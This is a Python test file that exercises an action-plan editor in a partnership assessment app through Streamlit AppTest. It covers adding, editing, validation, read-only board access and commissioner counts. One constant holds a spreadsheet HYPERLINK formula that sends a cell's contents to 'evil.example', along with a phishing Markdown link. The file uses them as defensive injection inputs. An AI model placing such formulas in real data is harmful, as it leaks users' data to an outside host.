"""The action editor through AppTest: a lead adds, edits and changes the status of an action (on the Actions
page and from a gap on Results); a bad action names its fields and saves nothing; a board member reads the
plan but cannot edit it; a commissioner sees open, overdue and met counts per partnership on Portfolio."""

from __future__ import annotations

import datetime as dt

import pytest

from assessment.storage import services
from assessment.storage.actions import stored_actions
from tests.adversarial.test_user_text import live, markdown_strings
from tests.app.test_access import ROOT, _database, environment, no_exception, signed_in

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"evidence") [phish](https://evil.example/p)'


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    """Three made-up partnerships with closed rounds; a lead and a board member of the first, a commissioner
    of the first two."""
    from assessment.storage.users import grant_role

    folder = tmp_path_factory.mktemp("actions-data")
    with environment({"ASSESSMENT_DATA_DIR": str(folder), "ASSESSMENT_DEMO": "0", "ASSESSMENT_AUTH": "oidc",
                      "ASSESSMENT_BOOTSTRAP_RESAMPLES": "200",
                      "ASSESSMENT_QUESTIONNAIRES_DIR": str(ROOT / "questionnaires")}):
        engine, factory = _database(folder, demo_partnerships=3)
        with factory() as session:
            keys = sorted(services.list_partnerships(session)["partnership"])
        with factory.begin() as session:
            grant_role(session, "lead@example.org", "partnership_lead", partnership=keys[0], actor="test")
            grant_role(session, "board@example.org", "board_member", partnership=keys[0], actor="test")
            for key in keys[:2]:
                grant_role(session, "commissioner@example.org", "commissioner", partnership=key, actor="test")
        yield {"factory": factory, "keys": keys}
        engine.dispose()


def _stored(world):
    with world["factory"]() as session:
        return stored_actions(session, [world["keys"][0]])


def _actions_page(email: str):
    at = signed_in(email)
    at.run()
    at.switch_page("app_pages/actions.py").run()
    no_exception(at)
    return at


def test_a_lead_adds_edits_and_closes_an_action(world):
    before = len(_stored(world))
    at = _actions_page("lead@example.org")
    domains = at.selectbox(key="actions_add_domain").options
    at.text_area(key="actions_add_what").input(HYPERLINK)
    at.text_input(key="actions_add_owner").input("Police mental health lead")
    at.date_input(key="actions_add_due").set_value(dt.date(2020, 1, 31))  # already past: overdue
    at.button(key="actions_add_add").click().run()
    no_exception(at)
    stored = _stored(world)
    assert len(stored) == before + 1
    added = stored.sort_values("action").iloc[-1]
    assert (added["what"], added["owner"], added["status"]) == (HYPERLINK, "Police mental health lead", "planned")
    assert added["created_by"] == "lead@example.org" and len(domains) > 1
    assert any("Action added" in s.value for s in at.success)
    table = _table(at, "what", "overdue")
    assert HYPERLINK in set(table["what"])  # shown as text in the table
    assert bool(table.set_index("action").loc[int(added["action"]), "overdue"])

    number = int(added["action"])
    at.selectbox(key="actions_edit_action").set_value(number).run()
    assert _live_markdown(at) == []  # the lead's words stay text
    at.selectbox(key=f"actions_edit_{number}_status").set_value("in progress")
    at.text_area(key=f"actions_edit_{number}_notes").input("Rota agreed at the March board")
    at.button(key="actions_edit_save").click().run()
    no_exception(at)
    row = _stored(world).set_index("action").loc[number]
    assert (row["status"], row["notes"]) == ("in progress", "Rota agreed at the March board")

    at.selectbox(key="actions_edit_action").set_value(number).run()
    at.selectbox(key=f"actions_edit_{number}_status").set_value("done")
    at.button(key="actions_edit_save").click().run()
    no_exception(at)
    assert _stored(world).set_index("action").loc[number, "status"] == "done"
    at.multiselect(key="actions_status").set_value(["planned", "in progress"]).run()
    assert number not in set(_table(at, "what", "overdue")["action"])


def test_a_bad_action_names_its_fields_and_saves_nothing(world):
    before = _stored(world)
    at = _actions_page("lead@example.org")
    at.text_area(key="actions_add_what").input("   ")
    at.button(key="actions_add_add").click().run()
    no_exception(at)
    message = " ".join(e.value for e in at.error)
    assert "what" in message and "owner" in message and "is required" in message
    assert len(_stored(world)) == len(before)


def test_a_lead_adds_an_action_from_a_gap_on_results(world):
    before = len(_stored(world))
    at = signed_in("lead@example.org")
    at.run()
    at.switch_page("app_pages/results.py").run()
    no_exception(at)
    at.text_area(key="results_action_what").input("Joint review of every section 136 detention over 12 hours")
    at.text_input(key="results_action_owner").input("Mental health trust")
    at.button(key="results_action_add").click().run()
    no_exception(at)
    stored = _stored(world)
    assert len(stored) == before + 1
    latest = stored.sort_values("action").iloc[-1]
    assert latest["round"] is not None and latest["owner"] == "Mental health trust"


def test_a_board_member_reads_the_plan_but_cannot_edit_it(world):
    from assessment.permissions import AccessDenied, Principal
    from assessment.service import update_action

    with world["factory"].begin() as session:
        services.add_action(session, world["keys"][0], domain=_a_domain(world), what="Publish the joint report",
                            owner="Board secretary", target_level=3, due="2027-03-31", actor="test")
    at = _actions_page("board@example.org")
    assert len(_table(at, "what", "overdue")) >= 1
    keys = {b.key for b in at.button}
    assert "actions_add_add" not in keys and "actions_edit_save" not in keys
    assert any("Only the partnership lead" in c.value for c in at.caption)
    assert _live_markdown(at) == []
    board = Principal.with_grants("board@example.org", [("board_member", world["keys"][0])])
    number = int(_stored(world)["action"].iloc[0])
    with pytest.raises(AccessDenied), world["factory"].begin() as session:
        update_action(session, board, number, status="dropped")


def test_a_commissioner_sees_the_action_counts_of_their_portfolio(world):
    with world["factory"].begin() as session:
        services.add_action(session, world["keys"][1], domain=_a_domain(world), what="Street triage pilot",
                            owner="ICB", target_level=2, due="2020-06-30", actor="test")  # overdue
    at = signed_in("commissioner@example.org")
    at.run()
    at.switch_page("app_pages/portfolio.py").run()
    no_exception(at)
    counts = _table(at, "open", "overdue", "met")
    assert len(counts) == 2 and counts["actions"].sum() >= 1 and counts["overdue"].sum() >= 1


def _live_markdown(at) -> list[str]:
    """Links or images Markdown would make of the page's text (the sidebar's own "Signed in as <email>" aside)."""
    return [p for text in markdown_strings(at) if not text.startswith("Signed in as") for p in live(text)]


def _table(at, *columns):
    """The table on the page with these columns (tables carry no key in AppTest)."""
    found = [t.value for t in at.dataframe if set(columns) <= set(t.value.columns)]
    assert found, f"no table with {columns}"
    return found[0]


def _a_domain(world) -> str:
    with world["factory"]() as session:
        scores = services.partnership_scores(session)
    return str(scores.loc[scores["partnership"] == world["keys"][0], "domain"].iloc[0])
